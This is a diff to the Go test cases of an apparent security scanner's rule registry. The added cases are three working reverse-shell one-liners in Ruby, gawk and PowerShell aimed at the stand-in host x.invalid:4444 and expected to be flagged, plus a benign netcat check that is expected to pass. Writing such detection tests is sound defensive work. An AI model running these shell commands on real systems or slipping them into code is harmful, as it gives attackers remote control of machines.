@@ -743,6 +743,10 @@ var registry = []Rule{
 			{"ci/db.sh", "ssh -fNL 5432:db.internal:5432 bastion.x.invalid", 0, true},
 			{"ci/preview.sh", "cloudflared tunnel --url http://localhost:8080", 0, true},
 			{"docs/notes.sh", "ssh -o ServerAliveInterval=60 deploy@x.invalid 'systemctl restart app'", 0, true},
+			{"x.sh", "ruby -rsocket -e 'f=TCPSocket.open(\"x.invalid\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'", 0, false},
+			{"x.sh", "gawk 'BEGIN { s = \"/inet/tcp/0/x.invalid/4444\"; while ((s |& getline c) > 0) { while ((c |& getline) > 0) print |& s } }'", 0, false},
+			{"x.ps1", "$c = New-Object System.Net.Sockets.TCPClient('x.invalid',4444);$s = $c.GetStream();[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$d = (New-Object Text.ASCIIEncoding).GetString($b,0,$i);$o = (iex $d 2>&1 | Out-String)}", 0, false},
+			{"x.sh", "echo quit | nc -w 2 localhost 6379", 0, true},
 		}},
 	{"crypto-mining", KindExecute, High, "mines cryptocurrency",
 		"it spends the project's machines on someone else's mining", []Case{
